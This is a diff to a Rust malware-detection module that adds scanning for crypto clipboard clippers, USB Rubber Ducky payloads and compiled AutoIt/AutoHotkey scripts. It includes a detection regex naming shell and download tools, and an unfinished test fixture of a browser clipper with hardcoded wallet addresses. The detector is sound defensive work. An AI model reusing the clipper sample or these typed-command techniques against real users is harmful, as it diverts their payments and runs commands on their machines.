@@ -3,24 +3,329 @@
 //! Detects input-based attack patterns:
 //! - Keyboard injection signatures
 //! - HID attack patterns
-//! - Clipboard hijacking
+//! - Clipboard hijacking, and clippers that swap copied wallet addresses
 //! - Input timing anomalies
 //! - Keystroke simulation
+//! - DuckyScript (USB Rubber Ducky) payloads
+//! - Compiled AutoIt and AutoHotkey scripts (byte markers in binaries)
+//!
+//! Comments are blanked out for JS/TS, Rust, C-family, Python and shell
+//! sources before matching, so API names mentioned in comments don't count
+//! as usage. Hits written as calls (`SendInput(`) are weighted higher.
 
 use crate::skills::{
-    schema, Finding, ScanParams, Severity, Skill, SkillError, SkillOutput, SkillResult,
+    explained_types, find_explanation, read_capped, schema, tag_attack_techniques,
+    AttackMapping, Explanation, Explanations, Finding, ScanParams, Severity, Skill, SkillError,
+    SkillOutput, SkillResult,
 };
 use regex::Regex;
 use serde_json::{json, Value};
-use std::fs;
+use std::borrow::Cow;
+use std::collections::BTreeMap;
 use std::path::Path;
-use walkdir::WalkDir;
+
+/// ATT&CK techniques per finding type
+const ATTACK_TECHNIQUES: AttackMapping = &[
+    ("keyboard_injection", &["T1059"]),
+    ("clipboard_access", &["T1115"]),
+    ("crypto_clipper", &["T1115", "T1565.002"]),
+    ("hid_device_access", &["T1200"]),
+    ("automation_framework", &["T1059"]),
+    ("duckyscript_payload", &["T1200", "T1059"]),
+    ("compiled_automation_script", &["T1059.010", "T1027.002"]),
+];
+
+/// Markers of compiled automation scripts: (regex, container format,
+/// confidence). Only searched in binary files, so docs quoting them don't
+/// count.
+const COMPILED_SCRIPT_MARKERS: &[(&str, &str, f32)] = &[
+    // .a3x script header, also embedded in AutoIt-compiled executables
+    (r"AU3!EA0[56]", "autoit", 0.95),
+    // Resource names Aut2Exe and Ahk2Exe give the embedded script
+    (r">>>AUTOIT (?:SCRIPT|NO CMDEXECUTE)<<<", "autoit", 0.9),
+    (r">AUTOHOTKEY SCRIPT<", "autohotkey", 0.9),
+    // Directive header Ahk2Exe leaves at the top of the embedded script
+    (r"; <COMPILER: v\d", "autohotkey", 0.8),
+];
+
+/// DuckyScript commands (the first word of a payload line)
+const DUCKY_KEYWORDS: &[&str] = &[
+    "REM", "DELAY", "DEFAULT_DELAY", "DEFAULTDELAY", "STRING", "STRINGLN", "ENTER", "GUI",
+    "WINDOWS", "COMMAND", "CTRL", "CONTROL", "ALT", "SHIFT", "CTRL-ALT", "CTRL-SHIFT",
+    "ALT-SHIFT", "TAB", "ESC", "ESCAPE", "SPACE", "MENU", "APP", "DELETE", "BACKSPACE",
+    "UP", "DOWN", "LEFT", "RIGHT", "UPARROW", "DOWNARROW", "LEFTARROW", "RIGHTARROW",
+    "CAPSLOCK", "REPEAT", "HOME", "END", "INSERT", "PAGEUP", "PAGEDOWN", "PRINTSCREEN",
+    "F1", "F2", "F3", "F4", "F5", "F6", "F7", "F8", "F9", "F10", "F11", "F12",
+];
+
+/// DuckyScript lines needed before a file counts as a payload
+const MIN_DUCKY_LINES: usize = 4;
+
+/// Share of non-blank lines that must be DuckyScript commands
+const MIN_DUCKY_DENSITY: f32 = 0.6;
+
+/// Comment syntax of a source file
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum CommentSyntax {
+    /// `//` line and `/* */` block comments
+    CStyle,
+    /// `#` line comments
+    Hash,
+}
+
+impl CommentSyntax {
+    fn for_path(path: &Path) -> Option<Self> {
+        let ext = path.extension()?.to_str()?.to_lowercase();
+        match ext.as_str() {
+            "js" | "mjs" | "cjs" | "jsx" | "ts" | "tsx" | "rs" | "c" | "h" | "cc" | "cpp"
+            | "hpp" | "cs" | "java" | "go" | "kt" | "swift" => Some(Self::CStyle),
+            "py" | "pyw" | "sh" | "bash" | "zsh" | "rb" | "pl" | "ps1" => Some(Self::Hash),
+            _ => None,
+        }
+    }
+}
+
+/// Replace comment bytes with spaces, keeping newlines and byte offsets.
+///
+/// String literals are tracked so `"http://x"` isn't read as a comment. In
+/// Rust a single quote usually starts a lifetime, so only `'x'`-shaped char
+/// literals are skipped there.
+fn blank_comments(content: &str, syntax: CommentSyntax, rust: bool) -> String {
+    let bytes = content.as_bytes();
+    let mut out = bytes.to_vec();
+    let mut quote: Option<u8> = None;
+    let mut i = 0;
+
+    let blank = |out: &mut Vec<u8>, from: usize, to: usize| {
+        for b in &mut out[from..to] {
+            if *b != b'\n' {
+                *b = b' ';
+            }
+        }
+    };
+
+    while i < bytes.len() {
+        let b = bytes[i];
+        let next = bytes.get(i + 1).copied();
+
+        if let Some(q) = quote {
+            if b == b'\\' {
+                i += 2;
+                continue;
+            }
+            // Unterminated plain strings end at the newline
+            if b == q || (b == b'\n' && q != b'`') {
+                quote = None;
+            }
+            i += 1;
+            continue;
+        }
+
+        match (b, syntax) {
+            (b'"', _) | (b'`', _) => quote = Some(b),
+            (b'\'', _) if !rust => quote = Some(b),
+            (b'\'', _) if next == Some(b'\\') || bytes.get(i + 2) == Some(&b'\'') => {
+                quote = Some(b)
+            }
+            (b'/', CommentSyntax::CStyle) if next == Some(b'/') => {
+                let end = content[i..].find('\n').map_or(bytes.len(), |n| i + n);
+                blank(&mut out, i, end);
+                i = end;
+                continue;
+            }
+            (b'/', CommentSyntax::CStyle) if next == Some(b'*') => {
+                let end = content[i + 2..].find("*/").map_or(bytes.len(), |n| i + 2 + n + 2);
+                blank(&mut out, i, end);
+                i = end;
+                continue;
+            }
+            (b'#', CommentSyntax::Hash) => {
+                let end = content[i..].find('\n').map_or(bytes.len(), |n| i + n);
+                blank(&mut out, i, end);
+                i = end;
+                continue;
+            }
+            _ => {}
+        }
+        i += 1;
+    }
+
+    // Only ASCII delimiters were inspected and whole comments blanked, so
+    // every remaining multi-byte sequence is intact
+    String::from_utf8(out).unwrap_or_else(|e| String::from_utf8_lossy(e.as_bytes()).into_owned())
+}
+
+/// File content alongside a copy with comments blanked out
+struct SourceView<'a> {
+    raw: &'a str,
+    code: Cow<'a, str>,
+    language_known: bool,
+}
+
+impl<'a> SourceView<'a> {
+    fn new(path: &Path, raw: &'a str) -> Self {
+        match CommentSyntax::for_path(path) {
+            Some(syntax) => {
+                let rust = path.extension().is_some_and(|e| e == "rs");
+                Self {
+                    raw,
+                    code: Cow::Owned(blank_comments(raw, syntax, rust)),
+                    language_known: true,
+                }
+            }
+            None => Self {
+                raw,
+                code: Cow::Borrowed(raw),
+                language_known: false,
+            },
+        }
+    }
+
+    /// Text for secondary keyword checks (loops, delays, wallets)
+    fn code(&self) -> &str {
+        &self.code
+    }
+
+    /// Matches of `regex`, preferring code; falls back to comment-only hits
+    fn hits(&self, regex: &Regex) -> Option<Hits<'_>> {
+        let (text, context) = if regex.is_match(&self.code) {
+            (self.code.as_ref(), if self.language_known { "code" } else { "text" })
+        } else if self.language_known && regex.is_match(self.raw) {
+            (self.raw, "comment")
+        } else {
+            return None;
+        };
+
+        let mut apis = Vec::new();
+        let mut has_call = false;
+        for m in regex.find_iter(text) {
+            apis.push(m.as_str());
+            has_call |= text[m.end()..].trim_start().starts_with('(');
+        }
+
+        Some(Hits {
+            apis,
+            context,
+            has_call,
+        })
+    }
+}
+
+/// Matches of one pattern and where they were found
+struct Hits<'a> {
+    apis: Vec<&'a str>,
+    /// `code`, `comment`, or `text` when the file type has no known comment syntax
+    context: &'static str,
+    /// At least one match is immediately followed by `(`
+    has_call: bool,
+}
+
+impl Hits<'_> {
+    /// Comment-only hits drop below the reporting threshold; call syntax
+    /// raises confidence and bare words in unrecognized files lower it
+    fn confidence(&self, base: f32) -> f32 {
+        match (self.context, self.has_call) {
+            ("comment", _) => base.min(0.4),
+            (_, true) => (base + 0.05).min(0.99),
+            ("text", false) => (base - 0.2).max(0.1),
+            _ => base,
+        }
+    }
+
+    fn severity(&self, severity: Severity) -> Severity {
+        if self.context == "comment" {
+            Severity::Info
+        } else {
+            severity
+        }
+    }
+}
+
+/// Operator guidance per finding type, for [`Skill::explain`]
+const EXPLANATIONS: Explanations = &[
+    Explanation::new(
+        "compiled_automation_script",
+        "A binary carrying a compiled AutoIt or AutoHotkey script: an .a3x file or an executable \
+         built with Aut2Exe or Ahk2Exe.",
+        "Compiling a script wraps it in a signed-looking runtime, and the script text is no \
+         longer readable. Commodity malware and loaders are routinely shipped this way.",
+        "Internal IT tools and game macros distributed as compiled scripts.",
+        "Extract the script (it can be decompiled) and review it. Block the binary if nobody can \
+         account for it.",
+    ),
+    Explanation::new(
+        "automation_framework",
+        "Use of a UI automation or input simulation library such as pyautogui, pynput, xdotool, \
+         or AutoHotkey.",
+        "These libraries can type, click, and read the screen as the user, which is how keystroke \
+         injection and remote control tools drive a desktop.",
+        "Test automation, accessibility tools, and productivity scripts.",
+        "Confirm the automation is part of a known tool and runs only when asked. Review anything \
+         that combines it with network access or credential keywords.",
+    ),
+    Explanation::new(
+        "clipboard_access",
+        "Code that reads or writes the system clipboard.",
+        "Clipboard hijackers watch for copied wallet addresses or passwords and swap or steal \
+         them.",
+        "Copy buttons, editors, and terminal tools.",
+        "Check that clipboard writes only happen on an explicit user action and that reads are \
+         not forwarded anywhere. Clipboard monitoring combined with crypto keywords should be \
+         removed.",
+    ),
+    Explanation::new(
+        "crypto_clipper",
+        "Code that matches clipboard text against a cryptocurrency address pattern (BTC, ETH, \
+         XMR) and writes to the clipboard.",
+        "This is how clipper malware works: when a victim copies a wallet address, it is \
+         replaced with the attacker's, and the payment goes to the wrong wallet. Legitimate \
+         software rarely needs both halves.",
+        "Wallet apps with a \"paste and validate\" flow that normalize an address and copy it \
+         back.",
+        "Treat the file as malware: remove it, check the hosts it ran on for persistence, and \
+         warn anyone who made payments from them. Compare the hardcoded addresses in the file \
+         against recent transactions.",
+    ),
+    Explanation::new(
+        "duckyscript_payload",
+        "A file in DuckyScript, the keystroke script format used by the USB Rubber Ducky and \
+         similar devices.",
+        "These scripts type commands into a machine as a keyboard, bypassing software that only \
+         guards files and network traffic.",
+        "Payload collections kept for authorized red-team work.",
+        "Keep payloads out of general repositories. If the script is unexpected, find out which \
+         device or person it was meant for.",
+    ),
+    Explanation::new(
+        "hid_device_access",
+        "Code that opens raw HID devices or declares a USB vendor and product ID to act as one.",
+        "Posing as a keyboard lets a device or program inject keystrokes that the system trusts \
+         as user input.",
+        "Drivers and tools for game controllers, hardware keys, and custom keyboards.",
+        "Verify the device IDs belong to hardware the project supports. Remove code that emulates \
+         a keyboard without a documented reason.",
+    ),
+    Explanation::new(
+        "keyboard_injection",
+        "Code that sends synthetic keystrokes to the system, often in a loop or with delays \
+         between keys.",
+        "Injected keystrokes can run commands as the logged-in user. The delays exist to wait for \
+         windows to open.",
+        "Remote desktop clients, macro tools, and UI tests.",
+        "Check what text is typed. Treat injection of shell commands or download-and-run lines as \
+         malicious.",
+    ),
+];
 
 pub struct InjectionDetector {
     keyboard_regex: Regex,
     clipboard_regex: Regex,
+    clipboard_write_regex: Regex,
+    address_pattern_regexes: Vec<(&'static str, Regex)>,
     hid_regex: Regex,
     automation_regex: Regex,
+    ducky_shell_regex: Regex,
+    compiled_markers: Vec<(regex::bytes::Regex, &'static str, f32)>,
 }
 
 impl InjectionDetector {
@@ -34,6 +339,29 @@ impl InjectionDetector {
             clipboard_regex: Regex::new(
                 r"(?i)\b(clipboard|navigator\.clipboard|execCommand.*copy|execCommand.*paste|SetClipboardData|GetClipboardData)\b"
             ).unwrap(),
+            // Clipboard writes, the half of a clipper that swaps the address
+            clipboard_write_regex: Regex::new(
+                r#"(?i)\b(navigator\.clipboard\.write(?:Text)?|clipboard\.(?:writeText|writeSync|WriteAll|setText|set_text|SetDataObject|copy)|SetClipboardData|pyperclip\.copy|execCommand\s*\(\s*['"]copy)"#
+            ).unwrap(),
+            // Regexes written to match wallet addresses: base58 classes skip
+            // I/O (and l), ETH is 40 hex digits after 0x, bech32 starts bc1
+            address_pattern_regexes: vec![
+                (
+                    "base58",
+                    Regex::new(
+                        r"\[[^\]\[]*(?:A-HJ-NP-Z|a-km-z)[^\]\[]*\]\s*\{\s*(\d{2,3})\s*(?:,\s*\d{2,3}\s*)?\}",
+                    )
+                    .unwrap(),
+                ),
+                (
+                    "eth",
+                    Regex::new(r"0x\s*\[[0-9a-fA-F\-]+\]\s*\{\s*40\s*\}").unwrap(),
+                ),
+                (
+                    "bech32",
+                    Regex::new(r"bc1q?\s*\[[^\]\[]+\]\s*(?:\{\s*\d{2}|[+*])").unwrap(),
+                ),
+            ],
             // HID/USB device access
             hid_regex: Regex::new(
                 r"(?i)\b(HID|USB|navigator\.hid|WebUSB|libusb|hidapi)\b"
@@ -42,19 +370,26 @@ impl InjectionDetector {
             automation_regex: Regex::new(
                 r"(?i)\b(pyautogui|pynput|keyboard\.press|mouse\.click|AutoHotkey|AutoIt)\b"
             ).unwrap(),
+            // What a typed STRING launches or runs
+            ducky_shell_regex: Regex::new(
+                r"(?i)(\bcmd(?:\.exe)?\b|powershell|\bpwsh\b|/bin/(?:ba)?sh|\bbash\b|\bterminal\b|wscript|cscript|mshta|rundll32|regsvr32|\biex\b|Invoke-Expression|\bcurl\b|\bwget\b|certutil|bitsadmin)"
+            ).unwrap(),
+            compiled_markers: COMPILED_SCRIPT_MARKERS
+                .iter()
+                .map(|(pattern, format, confidence)| {
+                    (regex::bytes::Regex::new(pattern).unwrap(), *format, *confidence)
+                })
+                .collect(),
         }
     }
 
     /// Detect keyboard injection patterns
-    fn detect_keyboard_injection(&self, path: &Path, content: &str) -> Vec<Finding> {
+    fn detect_keyboard_injection(&self, path: &Path, source: &SourceView) -> Vec<Finding> {
         let mut findings = Vec::new();
+        let content = source.code();
 
-        let keyboard_matches: Vec<&str> = self.keyboard_regex
-            .find_iter(content)
-            .map(|m| m.as_str())
-            .collect();
-
-        if !keyboard_matches.is_empty() {
+        if let Some(hits) = source.hits(&self.keyboard_regex) {
+            let keyboard_matches = &hits.apis;
             // Check for suspicious patterns
             let has_loop = Regex::new(r"(?i)(for|while|loop)").unwrap().is_match(content);
             let has_delay = Regex::new(r"(?i)(sleep|delay|wait|timeout)").unwrap().is_match(content);
@@ -74,11 +409,12 @@ impl InjectionDetector {
                 value: json!({
                     "apis": keyboard_matches,
                     "has_loop": has_loop,
-                    "has_delay": has_delay
+                    "has_delay": has_delay,
+                    "context": hits.context
                 }),
-                confidence,
+                confidence: hits.confidence(confidence),
                 location: path.display().to_string(),
-                severity,
+                severity: hits.severity(severity),
                 metadata: json!({
                     "pattern": "Keyboard injection",
                     "description": format!(
@@ -94,15 +430,12 @@ impl InjectionDetector {
     }
 
     /// Detect clipboard hijacking
-    fn detect_clipboard_hijacking(&self, path: &Path, content: &str) -> Vec<Finding> {
+    fn detect_clipboard_hijacking(&self, path: &Path, source: &SourceView) -> Vec<Finding> {
         let mut findings = Vec::new();
+        let content = source.code();
 
-        let clipboard_matches: Vec<&str> = self.clipboard_regex
-            .find_iter(content)
-            .map(|m| m.as_str())
-            .collect();
-
-        if !clipboard_matches.is_empty() {
+        if let Some(hits) = source.hits(&self.clipboard_regex) {
+            let clipboard_matches = &hits.apis;
             // Check for clipboard monitoring patterns
             let has_interval = Regex::new(r"(?i)(setInterval|polling|monitor|watch)").unwrap().is_match(content);
             let has_crypto = Regex::new(r"(?i)(bitcoin|btc|eth|wallet|0x[a-fA-F0-9]{40})").unwrap().is_match(content);
@@ -122,11 +455,12 @@ impl InjectionDetector {
                 value: json!({
                     "apis": clipboard_matches,
                     "has_monitoring": has_interval,
-                    "has_crypto_keywords": has_crypto
+                    "has_crypto_keywords": has_crypto,
+                    "context": hits.context
                 }),
-                confidence,
+                confidence: hits.confidence(confidence),
                 location: path.display().to_string(),
-                severity,
+                severity: hits.severity(severity),
                 metadata: json!({
                     "pattern": if has_crypto {
                         "Crypto clipboard hijacker"
@@ -143,16 +477,74 @@ impl InjectionDetector {
         findings
     }
 
-    /// Detect HID/USB attack patterns
-    fn detect_hid_attacks(&self, path: &Path, content: &str) -> Vec<Finding> {
-        let mut findings = Vec::new();
-
-        let hid_matches: Vec<&str> = self.hid_regex
+    /// Detect clipper malware: a wallet-address regex next to a clipboard
+    /// write, which swaps copied addresses for the attacker's
+    fn detect_crypto_clipper(&self, path: &Path, source: &SourceView) -> Vec<Finding> {
+        let content = source.code();
+        let writes: Vec<&str> = self
+            .clipboard_write_regex
             .find_iter(content)
             .map(|m| m.as_str())
             .collect();
+        if writes.is_empty() {
+            return Vec::new();
+        }
 
-        if !hid_matches.is_empty() {
+        let mut patterns = Vec::new();
+        let mut currencies = Vec::new();
+        for (kind, regex) in &self.address_pattern_regexes {
+            for cap in regex.captures_iter(content) {
+                let length = cap.get(1).and_then(|n| n.as_str().parse::<u32>().ok());
+                let currency = match *kind {
+                    "eth" => "eth",
+                    // Monero addresses are 95 characters
+                    "base58" if length >= Some(90) => "xmr",
+                    _ => "btc",
+                };
+                patterns.push(cap[0].to_string());
+                if !currencies.contains(&currency) {
+                    currencies.push(currency);
+                }
+            }
+        }
+        if patterns.is_empty() {
+            return Vec::new();
+        }
+
+        let has_monitoring =
+            Regex::new(r"(?i)(setInterval|polling|monitor|watch|while\s*\(?\s*true\b)")
+                .unwrap()
+                .is_match(content);
+
+        vec![Finding {
+            finding_type: "crypto_clipper".to_string(),
+            value: json!({
+                "address_patterns": patterns,
+                "currencies": currencies,
+                "write_apis": writes,
+                "has_monitoring": has_monitoring
+            }),
+            confidence: if has_monitoring { 0.98 } else { 0.95 },
+            location: path.display().to_string(),
+            severity: Severity::Critical,
+            metadata: json!({
+                "pattern": "Crypto clipboard clipper",
+                "description": format!(
+                    "Clipboard write ({}) alongside {} wallet address pattern(s)",
+                    writes.join(", "),
+                    currencies.join("/")
+                )
+            }),
+        }]
+    }
+
+    /// Detect HID/USB attack patterns
+    fn detect_hid_attacks(&self, path: &Path, source: &SourceView) -> Vec<Finding> {
+        let mut findings = Vec::new();
+        let content = source.code();
+
+        if let Some(hits) = source.hits(&self.hid_regex) {
+            let hid_matches = &hits.apis;
             // Check for keyboard emulation (BadUSB-style)
             let has_keyboard = self.keyboard_regex.is_match(content);
             let has_vendor_id = Regex::new(r"(?i)(vendor.*id|vid|0x[0-9a-f]{4})").unwrap().is_match(content);
@@ -168,11 +560,12 @@ impl InjectionDetector {
                 value: json!({
                     "apis": hid_matches,
                     "has_keyboard_emulation": has_keyboard,
-                    "has_vendor_id": has_vendor_id
+                    "has_vendor_id": has_vendor_id,
+                    "context": hits.context
                 }),
-                confidence: if has_keyboard { 0.85 } else { 0.7 },
+                confidence: hits.confidence(if has_keyboard { 0.85 } else { 0.7 }),
                 location: path.display().to_string(),
-                severity,
+                severity: hits.severity(severity),
                 metadata: json!({
                     "pattern": if has_keyboard { "HID keyboard emulation (BadUSB-style)" } else { "HID device access" },
                     "description": format!("HID APIs: {:?}", hid_matches)
@@ -184,23 +577,20 @@ impl InjectionDetector {
     }
 
     /// Detect automation framework usage
-    fn detect_automation(&self, path: &Path, content: &str) -> Vec<Finding> {
+    fn detect_automation(&self, path: &Path, source: &SourceView) -> Vec<Finding> {
         let mut findings = Vec::new();
 
-        let automation_matches: Vec<&str> = self.automation_regex
-            .find_iter(content)
-            .map(|m| m.as_str())
-            .collect();
-
-        if !automation_matches.is_empty() {
+        if let Some(hits) = source.hits(&self.automation_regex) {
+            let automation_matches = &hits.apis;
             findings.push(Finding {
                 finding_type: "automation_framework".to_string(),
                 value: json!({
-                    "frameworks": automation_matches
+                    "frameworks": automation_matches,
+                    "context": hits.context
                 }),
-                confidence: 0.7,
+                confidence: hits.confidence(0.7),
                 location: path.display().to_string(),
-                severity: Severity::Medium,
+                severity: hits.severity(Severity::Medium),
                 metadata: json!({
                     "pattern": "Automation framework",
                     "description": format!("Found automation tools: {:?}", automation_matches)
@@ -211,35 +601,128 @@ impl InjectionDetector {
         findings
     }
 
-    /// Analyze a single file
-    fn analyze_file(&self, path: &Path) -> Vec<Finding> {
-        let mut findings = Vec::new();
+    /// Detect DuckyScript keystroke payloads: mostly command lines such as
+    /// `DELAY 500` / `GUI r` / `STRING powershell ...`
+    fn detect_duckyscript(&self, path: &Path, content: &str) -> Vec<Finding> {
+        let mut counts: BTreeMap<&str, usize> = BTreeMap::new();
+        let mut shell_strings: Vec<String> = Vec::new();
+        let mut lines = 0;
+        let mut ducky_lines = 0;
+
+        for line in content.lines().map(str::trim).filter(|l| !l.is_empty()) {
+            lines += 1;
+            let (command, rest) = line.split_once(char::is_whitespace).unwrap_or((line, ""));
+            let Some(keyword) = DUCKY_KEYWORDS.iter().find(|k| **k == command) else {
+                continue;
+            };
 
-        if let Ok(content) = fs::read_to_string(path) {
-            findings.extend(self.detect_keyboard_injection(path, &content));
-            findings.extend(self.detect_clipboard_hijacking(path, &content));
-            findings.extend(self.detect_hid_attacks(path, &content));
-            findings.extend(self.detect_automation(path, &content));
+            ducky_lines += 1;
+            *counts.entry(keyword).or_default() += 1;
+            if matches!(*keyword, "STRING" | "STRINGLN") && self.ducky_shell_regex.is_match(rest) {
+                shell_strings.push(rest.trim().chars().take(120).collect());
+            }
         }
 
-        findings
+        let keystrokes = ducky_lines - counts.get("REM").copied().unwrap_or(0);
+        if ducky_lines < MIN_DUCKY_LINES
+            || keystrokes == 0
+            || (ducky_lines as f32) < MIN_DUCKY_DENSITY * lines as f32
+        {
+            return Vec::new();
+        }
+
+        let has_delay = counts.contains_key("DELAY")
+            || counts.contains_key("DEFAULT_DELAY")
+            || counts.contains_key("DEFAULTDELAY");
+        let has_shell = !shell_strings.is_empty();
+        let (severity, confidence) = match (has_delay, has_shell) {
+            (true, true) => (Severity::Critical, 0.95),
+            (_, true) => (Severity::High, 0.85),
+            _ => (Severity::Medium, 0.75),
+        };
+
+        shell_strings.truncate(5);
+        vec![Finding {
+            finding_type: "duckyscript_payload".to_string(),
+            value: json!({
+                "commands": counts,
+                "command_lines": ducky_lines,
+                "total_lines": lines,
+                "has_delay": has_delay,
+                "shell_strings": shell_strings
+            }),
+            confidence,
+            location: path.display().to_string(),
+            severity,
+            metadata: json!({
+                "pattern": "DuckyScript payload",
+                "description": if has_shell {
+                    format!("Keystroke injection script typing shell commands: {:?}", shell_strings)
+                } else {
+                    format!("Keystroke injection script ({} DuckyScript commands)", ducky_lines)
+                }
+            }),
+        }]
     }
 
-    /// Analyze a directory
-    fn analyze_directory(&self, path: &Path, recursive: bool) -> Vec<Finding> {
-        let mut findings = Vec::new();
+    /// Detect compiled AutoIt/AutoHotkey scripts by their byte markers.
+    /// Text files are skipped: the markers only mean something inside a
+    /// binary container.
+    fn detect_compiled_automation(&self, path: &Path, bytes: &[u8]) -> Vec<Finding> {
+        if !bytes.contains(&0) {
+            return Vec::new();
+        }
 
-        let walker = if recursive {
-            WalkDir::new(path)
-        } else {
-            WalkDir::new(path).max_depth(1)
+        let found = self.compiled_markers.iter().find_map(|(regex, format, confidence)| {
+            regex.find(bytes).map(|mat| (mat, *format, *confidence))
+        });
+        let Some((mat, format, confidence)) = found else {
+            return Vec::new();
         };
+        let marker = String::from_utf8_lossy(mat.as_bytes()).into_owned();
+        let container = if bytes.starts_with(b"MZ") { "executable" } else { "script file" };
+
+        vec![Finding {
+            finding_type: "compiled_automation_script".to_string(),
+            value: json!({
+                "format": format,
+                "container": container,
+                "marker": marker,
+                "offset": mat.start()
+            }),
+            confidence,
+            location: path.display().to_string(),
+            severity: Severity::High,
+            metadata: json!({
+                "pattern": "Compiled automation script",
+                "description": format!("Compiled {} {} (marker {:?})", format, container, marker)
+            }),
+        }]
+    }
 
-        for entry in walker.into_iter().filter_map(|e| e.ok()) {
-            if entry.file_type().is_file() {
-                findings.extend(self.analyze_file(entry.path()));
-            }
-        }
+    /// Analyze a single file
+    fn analyze_file(&self, path: &Path, max_bytes: u64) -> Vec<Finding> {
+        let Ok(bytes) = read_capped(path, max_bytes) else {
+            return Vec::new();
+        };
+
+        // Lossy so text patterns embedded in binaries still match
+        let content = String::from_utf8_lossy(&bytes);
+        let mut findings = self.analyze_text(path, &content);
+        findings.extend(self.detect_compiled_automation(path, &bytes));
+        findings
+    }
+
+    /// Run every check over `content`, reported against `path`
+    fn analyze_text(&self, path: &Path, content: &str) -> Vec<Finding> {
+        let mut findings = Vec::new();
+        let source = SourceView::new(path, content);
+        findings.extend(self.detect_keyboard_injection(path, &source));
+        findings.extend(self.detect_clipboard_hijacking(path, &source));
+        findings.extend(self.detect_crypto_clipper(path, &source));
+        findings.extend(self.detect_hid_attacks(path, &source));
+        findings.extend(self.detect_automation(path, &source));
+        findings.extend(self.detect_duckyscript(path, content));
 
         findings
     }
@@ -258,7 +741,8 @@ impl Skill for InjectionDetector {
 
     fn description(&self) -> &str {
         "Detects input injection patterns including keyboard simulation, \
-         clipboard hijacking, HID attacks, and automation frameworks."
+         clipboard hijacking, HID attacks, automation frameworks, \
+         DuckyScript keystroke payloads, and compiled AutoIt/AutoHotkey scripts."
     }
 
     fn schema(&self) -> Value {
@@ -284,22 +768,254 @@ impl Skill for InjectionDetector {
             )));
         }
 
-        let findings = if path.is_file() {
-            self.analyze_file(path)
-        } else {
-            self.analyze_directory(path, scan_params.recursive)
-        };
+        let max_bytes = scan_params.max_file_bytes();
+        let (findings, stats) = scan_params.scan_files(|file| self.analyze_file(file, max_bytes))?;
 
         let threshold = self.confidence_threshold();
-        let filtered: Vec<Finding> = findings
+        let mut filtered: Vec<Finding> = findings
             .into_iter()
             .filter(|f| f.confidence >= threshold)
             .collect();
 
-        Ok(SkillOutput::with_findings(filtered))
+        tag_attack_techniques(&mut filtered, self.attack_techniques());
+
+        Ok(SkillOutput::with_findings_and_stats(filtered, stats))
+    }
+
+    fn attack_techniques(&self) -> AttackMapping {
+        ATTACK_TECHNIQUES
+    }
+
+    fn analyze_content(&self, name: &str, content: &str) -> SkillResult<Vec<Finding>> {
+        let threshold = self.confidence_threshold();
+        let mut findings = self.analyze_text(Path::new(name), content);
+        findings.retain(|f| f.confidence >= threshold);
+        tag_attack_techniques(&mut findings, self.attack_techniques());
+        Ok(findings)
+    }
+
+    fn finding_types(&self) -> Vec<&str> {
+        explained_types(EXPLANATIONS)
+    }
+
+    fn explain(&self, finding_type: &str) -> Option<Explanation> {
+        find_explanation(EXPLANATIONS, finding_type)
     }
 
     fn categories(&self) -> Vec<&str> {
         vec!["injection", "hid", "clipboard", "malware"]
     }
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn scan(name: &str, content: &str) -> Vec<Finding> {
+        let detector = InjectionDetector::new();
+        let source = SourceView::new(Path::new(name), content);
+        let mut findings = detector.detect_keyboard_injection(Path::new(name), &source);
+        findings.extend(detector.detect_clipboard_hijacking(Path::new(name), &source));
+        findings.extend(detector.detect_hid_attacks(Path::new(name), &source));
+        findings
+    }
+
+    #[test]
+    fn test_blank_comments_keeps_offsets_and_strings() {
+        let js = "let u = \"http://x\"; // SendInput\n/* USB\n */ go();";
+        let code = blank_comments(js, CommentSyntax::CStyle, false);
+        assert_eq!(code.len(), js.len());
+        assert!(code.contains("\"http://x\""));
+        assert!(!code.contains("SendInput") && !code.contains("USB"));
+        assert_eq!(code.lines().count(), 3);
+
+        let py = "s = '# not a comment'  # clipboard\n";
+        let code = blank_comments(py, CommentSyntax::Hash, false);
+        assert!(code.contains("# not a comment") && !code.contains("clipboard"));
+
+        // Lifetimes don't open a string
+        let rs = "fn f<'a>(x: &'a str) {} // HID\nlet c = '\"'; // USB";
+        let code = blank_comments(rs, CommentSyntax::CStyle, true);
+        assert!(!code.contains("HID") && !code.contains("USB"));
+    }
+
+    #[test]
+    fn test_comment_mentions_fall_below_threshold() {
+        let threshold = InjectionDetector::new().confidence_threshold();
+        let findings = scan(
+            "lib.rs",
+            "// Copies to the clipboard via the USB bridge\n/* SendInput docs */\nfn main() {}\n",
+        );
+
+        assert!(!findings.is_empty());
+        for finding in &findings {
+            assert_eq!(finding.value["context"], "comment");
+            assert_eq!(finding.severity, Severity::Info);
+            assert!(finding.confidence < threshold);
+        }
+    }
+
+    #[test]
+    fn test_call_syntax_in_code_weighted_higher() {
+        let call = scan("inject.py", "import ctypes\nSendInput(1, inputs, size)\n");
+        let bare = scan("notes.txt", "The SendInput API is documented elsewhere.\n");
+
+        assert_eq!(call[0].value["context"], "code");
+        assert_eq!(bare[0].value["context"], "text");
+        assert!(call[0].confidence > bare[0].confidence);
+        assert!(bare[0].confidence < InjectionDetector::new().confidence_threshold());
+    }
+
+    #[test]
+    fn test_clipboard_finding_tagged_t1115() {
+        let dir = tempfile::tempdir().unwrap();
+        let target = dir.path().join("clipper.js");
+        std::fs::write(
+            &target,
+            "setInterval(() => navigator.clipboard.readText().then(swapBtcWallet), 500);\n",
+        )
+        .unwrap();
+
+        let output = InjectionDetector::new()
+            .execute(json!({ "path": target.to_str().unwrap() }))
+            .unwrap();
+        let clipboard = output
+            .findings
+            .iter()
+            .find(|f| f.finding_type == "clipboard_access")
+            .unwrap();
+        assert_eq!(clipboard.metadata["attack_techniques"], json!(["T1115"]));
+    }
+
+    /// Browser clipper in the style of the ones shipped in malicious
+    /// extensions and npm packages
+    const JS_CLIPPER: &str = r#"
+const wallets = {
+  btc: "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh",
+  eth: "0x52908400098527886E0F7030069857D2E4169EE7",
+  xmr: "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",
+};
+const patterns = {
+  btc: /^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/,
+  eth: /^0x[a-fA-F0-9]{40}$/,
+  xmr: /^4[0-9AB][1-9A-HJ-NP-Za-km-z]{93}$/,
+};
+setInterval(async () => {
+  const text = (await navigator.clipboard.readText()).trim();
